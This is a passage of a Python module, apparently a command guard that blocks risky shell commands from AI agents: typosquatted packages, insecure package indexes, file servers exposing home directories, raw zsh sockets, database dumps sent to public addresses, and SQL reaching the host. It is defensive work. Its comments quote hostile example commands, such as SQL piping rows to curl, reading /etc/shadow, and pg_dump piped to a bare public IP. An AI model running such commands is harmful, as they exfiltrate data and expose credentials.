            return c
    return None


_SCREEN_WORD = re.compile(r"[^\s|&;<>()`$'\"]+")


def screen_packages(text: str) -> bool:
    """fastpath: the words check_packages / check_indexes read: a URL or an index option, or a word that is a
    typosquat's name in either ecosystem (check_packages reads the same words, fewer of them)."""
    if "://" in text or "-index" in text or "--find-links" in text or "trusted-host" in text or "insecure-host" in text:
        return True
    for t in _SCREEN_WORD.findall(text):
        if t[0] != "-" and len(t) >= 4 and (misspelled(t, PYPI) or misspelled(t, NPM)):
            return True
    return False


_ADD_ARG = frozenset({"-G", "--group", "--source", "-E", "--extras", "--python", "--platform", "-C", "--directory",
                      "-P", "--project", "-L", "--lockfile", "-p", "--markers"})


def _add(a, cmd: Cmd) -> None:
    """`poetry add reqeusts`, `pdm add reqeusts@^2`: the same as `pip install`."""
    pos = positionals(cmd.args, _ADD_ARG)
    if pos and pos[0].value == "add":
        check_packages(a, cmd, f"{cmd.name} add", pos[1:], PYPI)


def _bun(a, cmd: Cmd) -> None:
    """`bun add lodahs`, `bun install --registry https://…`: as `npm install`."""
    _registry_flags(a, cmd)
    pos = positionals(cmd.args, _NPM_ARG)
    if pos and pos[0].value in ("add", "a", "install", "i"):
        check_packages(a, cmd, f"bun {pos[0].value}", pos[1:], NPM)


def _gem_cargo(a, cmd: Cmd) -> None:
    """`gem install --source http://…`, `cargo install --git http://…`: the same as pip's plain HTTP
    index (gems run extension builds, crates run build.rs, as they install)."""
    if cmd.args and cmd.args[0].value in ("install", "i", "update", "add"):
        _plain_http_install(a, cmd, cmd.args[1:])


def _go(a, cmd: Cmd) -> None:
    vals = [w.value or "" for w in cmd.args]
    if vals[:1] == ["env"] and "-w" in vals:
        for w in cmd.args:
            key, eq, value = (w.value or "").partition("=")
            if eq and key in ("GOPROXY", "GOPRIVATE", "GONOSUMDB", "GOINSECURE") and (
                    any(plain_http(p) for p in value.split(",")) or key != "GOPROXY" and value in ("*", "")):
                a.block("persistence", f"`go env -w {key}={value}` makes later builds fetch modules over plain HTTP "
                                       "or skip their checksums; keep the default module settings", w.node)


# -- file servers started on the home, the root or a credential directory --------------------
def _served(a, cmd: Cmd, where: Word | None, default: str | None) -> None:
    v = where.value if where is not None else default
    if v is None:
        return
    n = paths.normalize(v)
    if n in ("/", "~") or paths.kinds(v) & {paths.HOME, paths.SYSTEM, paths.SECRET}:
        a.block("exfiltration", f"`{cmd.name}` serves {v} over HTTP: anyone who reaches the port can download "
                                "it; serve only the project's own output directory",
                where.node if where is not None else cmd.node)


def _python_module(cmd: Cmd) -> tuple[str, list[Word]] | None:
    """(module, its arguments) of `python -m MODULE ARGS`."""
    for j, w in enumerate(cmd.args):
        v = w.value or ""
        if v == "-m" and j + 1 < len(cmd.args):
            return cmd.args[j + 1].value or "", cmd.args[j + 2:]
        if v.startswith("-m") and len(v) > 2:
            return v[2:], cmd.args[j + 1:]
        if not v.startswith("-"):
            return None
    return None


def _file_server(a, cmd: Cmd) -> None:
    args = cmd.args
    vals = [w.value for w in args]
    if cmd.name in ("python", "pypy"):
        mod = _python_module(cmd)
        if mod is not None and mod[0] == "pip":  # `python3 -m pip ...` is pip
            _pip(a, Cmd(cmd.node, [Word(cmd.words[0].node, "pip", "pip")] + mod[1], "pip"))
            return
        if mod is None or mod[0] != "http.server":
            return
        dirs = option_value(args, "-d", "--directory")
    elif cmd.name == "php":
        if not any((v or "").startswith("-S") for v in vals):
            return
        dirs = option_value(args, "-t", "--docroot")
    else:  # httpd (busybox httpd)
        dirs = option_value(args, "-h")
    _served(a, cmd, dirs[-1] if dirs else None, a.cwd if not dirs else None)


# -- zsh's TCP module: the zsh spelling of /dev/tcp -------------------------------------------
def _ztcp(a, cmd: Cmd) -> None:
    if cmd.name == "zmodload" and not any((w.value or "").startswith(("zsh/net/tcp", "zsh/net/socket"))
                                          for w in cmd.args):
        return
    a.block("reverse-shell", f"`{cmd.name}` opens raw network connections from the shell (zsh/net/tcp); agents "
                             "must not open raw sockets", cmd.node)


HANDLERS = {
    **{n: [_gem_cargo] for n in ("gem", "cargo", "composer")},
    "sqlite3": [_sqlite], "duckdb": [_sqlite],
    "make": [_make], "gmake": [_make],
    "expect": [_expect],
    "npm": [_npm], "pnpm": [_npm], "yarn": [_npm],
    "pip": [_pip],
    "poetry": [_add], "pdm": [_add], "bun": [_bun],
    "go": [_go],
    "python": [_file_server], "pypy": [_file_server], "php": [_file_server], "httpd": [_file_server],
    "ztcp": [_ztcp], "zmodload": [_ztcp], "zsocket": [_ztcp],
    **{n: [_npmrc_write] for n in ("echo", "printf", "tee")},
}


# -- a data store's contents copied into another one at a bare public address (session 18) ---------------------
# `kcat -b kafka-1.internal:9092 -t payments -C | kcat -b 198.51.100.60:9092 -t mirror -P`, `pg_dump prod | psql -h
# 203.0.113.9 x`: what the first client reads (a topic consumed, a database dumped or queried) is written by the
# second into a server named only by its public address, which no config, inventory or DNS name of the user's vouches
# for (as net.py's `scp F 203.0.113.9:` of a dump). Between servers the user names (`kafka-2.internal`, `db.staging`,
# a private address) it is a migration or a mirror, and ordinary.
_STORE_WRITERS = frozenset({"kcat", "kafkacat", "kafka-console-producer", "kafka-console-producer.sh", "psql", "mysql",
                            "mariadb", "mongorestore", "mongoimport", "redis-cli", "valkey-cli"})
_KAFKA_CONSUMERS = frozenset({"kafka-console-consumer", "kafka-console-consumer.sh"})
_STORE_DUMPERS = frozenset({"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump", "mongodump",
                            "mongoexport"})
# each client's options naming its server (a URI's host is read too), and the one that says it writes
_SERVER_OPTS = {"kcat": ("-b",), "kafkacat": ("-b",), "kafka-console-producer": ("--bootstrap-server", "--broker-list"),
                "kafka-console-consumer": ("--bootstrap-server",), "psql": ("-h", "--host", "-d", "--dbname"),
                "mysql": ("-h", "--host"), "mariadb": ("-h", "--host"), "mongorestore": ("--host", "-h", "--uri"),
                "mongoimport": ("--host", "-h", "--uri"), "mongodump": ("--host", "-h", "--uri"),
                "mongoexport": ("--host", "-h", "--uri"), "redis-cli": ("-h", "-u"), "valkey-cli": ("-h", "-u"),
                "pg_dump": ("-h", "--host", "-d", "--dbname"), "pg_dumpall": ("-h", "--host", "-d", "--dbname"),
                "mysqldump": ("-h", "--host"), "mariadb-dump": ("-h", "--host"), "mysqlpump": ("-h", "--host")}
_IP_LIKE = re.compile(r"(?<!\d)\d++\.\d++\.\d++\.\d++|\[[0-9a-fA-F:]++\]")  # from a number's start only


def _servers(cmd: Cmd) -> set[str]:
    """The hosts `cmd` (a data store's client) connects to, by its options and URIs (`host:port,host2:port`)."""
    name = cmd.name.removesuffix(".sh")
    out: set[str] = set()
    values = [w.value for w in option_value(cmd.args, *_SERVER_OPTS.get(name, ()))]
    values += [w.value for w in cmd.args if w.value and "://" in w.value]
    for v in values:
        for part in (v or "").split(","):
            host = url_host(part) if "://" in part else part.strip().rsplit("@", 1)[-1].rsplit(":", 1)[0]
            if host and not ("=" in part and "://" not in part):
                out.add(host.strip("[]").lower())
    return out


def _store_reader(c: Cmd) -> str | None:
    """What `c` prints that a data store holds: a topic consumed, a database dumped, a query's rows; None otherwise."""
    name, vals = c.name, [w.value or "" for w in c.args]
    if name in ("kcat", "kafkacat"):
        return f"the topic {option_value(c.args, '-t')[0].value if option_value(c.args, '-t') else ''}".rstrip() \
            if "-C" in vals or "-P" not in vals and "-L" not in vals and option_value(c.args, "-t") else None
    if name in _KAFKA_CONSUMERS:
        return "a topic consumed"
    if name in _STORE_DUMPERS:
        return f"a dump of the database (`{name}`)"
    if name in ("psql", "mysql", "mariadb") and option_value(c.args, *_SQL_TEXT[name][0], cluster=_SQL_TEXT[name][1]):
        return f"a query's rows (`{name}`)"
    return None


def _store_mirror(a, cmd: Cmd) -> None:
    """A data store's contents piped (or a dump file fed) into this client, which writes them to a server at a bare
    public address (see _STORE_WRITERS)."""
    vals = [w.value or "" for w in cmd.args]
    if cmd.name in ("kcat", "kafkacat") and "-P" not in vals:
        return
    from .common import pipeline_stage
    from .net import _noted, public_ip

    far = sorted(h for h in _servers(cmd) if public_ip(h))
    if not far:
        return  # (most runs: a server named, a private address, this machine)
    what, src = None, None
    where = pipeline_stage(cmd)
    if where is not None and where[1] > 0:
        before = where[0][:where[1]]
        for doc, c in a.ctx.commands:
            n = c.node
            if doc is a.doc and any(s.start_byte <= n.start_byte and n.end_byte <= s.end_byte for s in before):
                if (found := _store_reader(c)) is not None and not set(far) <= _servers(c):
                    what, src = found, c.name
    if what is None and a.leaked:  # `pg_dump … > /tmp/d.sql; psql -h 203.0.113.9 -f /tmp/d.sql`
        fed = [w.value for w in option_value(cmd.args, "-f", "--file")] + [
            a.ev.word(d).value for r in cmd.redirects if r.type == "file_redirect" and r.children and
            r.children[0].type == "<" for d in r.children_by_field_name("destination")[:1]]
        what = next((x for v in fed if v and (x := _noted(a.leaked, a, v))), None)
    if what is None:
        return
    by = f" (read by `{src}`)" if src and f"`{src}" not in what else ""
    a.block("exfiltration", f"{what}{by} is written by `{cmd.name}` into the server at {far[0]}, a bare public address "
                            "no configuration of the user's names: the data leaves for whoever answers there; copy "
                            "data only between servers the user names", cmd.node)


for _n in _STORE_WRITERS:
    HANDLERS.setdefault(_n, []).append(_store_mirror)


# -- SQL that runs programs or reads and writes files on the machine it runs on (session 10) ------------------
# client -> the options whose value is SQL (clustered with these letters: `psql -XAtc '…'`, `mysql -Ne '…'`)
_SQL_TEXT: dict[str, tuple[tuple[str, ...], str]] = {
    "psql": (("-c", "--command"), "c"), **dict.fromkeys(("mysql", "mariadb"), (("-e", "--execute"), "e")),
    "sqlcmd": (("-Q", "-q", "--query"), ""), "sqlite3": (("-cmd",), ""), "duckdb": (("-c", "-cmd", "-s"), ""),
}


def _sql_texts(a, cmd: Cmd) -> list[tuple[str, object]]:
    """The SQL `cmd` runs: its option's values, and what reaches its standard input (a here-document or string, a
    file this script wrote, the literal output of an `echo`/`printf` piped in)."""
    from .api_calls import fed_text

    options, cluster = _SQL_TEXT[cmd.name]
    texts = [(w.value, w.node) for w in option_value(cmd.args, *options, cluster=cluster) if w.value]
    if cmd.name in ("sqlite3", "duckdb"):  # `sqlite3 DB 'SQL' …`
        texts += [(w.value, w.node) for w in positionals(cmd.args, _SQLITE_ARG)[1:] if w.value]
    fed = fed_text(a, cmd)
    if fed is not None:
        texts.append((fed, cmd.node))
    return texts


def _sql_server(a, cmd: Cmd) -> None:
    """`psql -c "\\copy (SELECT …) TO PROGRAM 'curl …'"`, `mysql -e "SELECT LOAD_FILE('/etc/shadow')"`: what the SQL
    does on the database's machine (sql.judge_server), its commands judged as command lines of this input. The files
    a query's rows are exported to (`COPY (SELECT …) TO '/tmp/c.csv'`, `INTO OUTFILE`) are remembered for an upload
    of them later in this input (net.note_file)."""
    from .. import sql

    for text, node in _sql_texts(a, cmd):
        if sql.judge_server(text, lambda rule, message: a.block(rule, message, node),
                            lambda line: _nested_line(a, line, node)):
            return
        for effect in sql.server_effects(text):
            if effect.kind == "write":
                _exported(a, cmd, effect.value, effect.verb, node)


def _exported(a, cmd: Cmd, path: str, verb: str, node) -> None:
    from .net import note_file

    if path and not path.startswith(("/dev/", "|")):
        note_file(a, path, f"rows exported from the database (`{cmd.name} … {verb}`)", node)


for _n in _SQL_TEXT:
    HANDLERS.setdefault(_n, []).append(_sql_server)
# fastpath (merged with the other modules' screens of a name): the words sql.server_effects looks for
SCREENS: dict = dict.fromkeys(_SQL_TEXT, lambda text: sql_server_hint(text))
# ... and _sqlite's dot-commands in duckdb (sqlite3's are screened in fastpath.py)
SCREENS["duckdb"] = lambda text: sql_server_hint(text) or _DOT_COMMAND(text)
# ... and check_packages / check_indexes: URLs, index options and typosquats' names
SCREENS.update(dict.fromkeys(("pip", "npm", "pnpm", "yarn", "bun", "poetry", "pdm", "uv", "pipx"), screen_packages))
SCREENS["python"] = lambda text: "pip" in text and screen_packages(text)  # `python3 -m pip install …`
# ... and _store_mirror: a server named by its address
for _n in _STORE_WRITERS:
    SCREENS[_n] = (lambda own: (lambda text: own(text) or _IP_LIKE.search(text) is not None) if own else
                   (lambda text: _IP_LIKE.search(text) is not None))(SCREENS.get(_n))
# ... and _npmrc_write: an `.npmrc` written
SCREENS.update(dict.fromkeys(("echo", "printf", "tee"), lambda text: ".npmrc" in text))


_DOT_COMMAND = mentions(".sh", ".sy", ".ou", ".on", ".lo", ".ex")


def sql_server_hint(text: str) -> bool:
    from ..sql import _SERVER_HINT

    return _SERVER_HINT.search(text) is not None
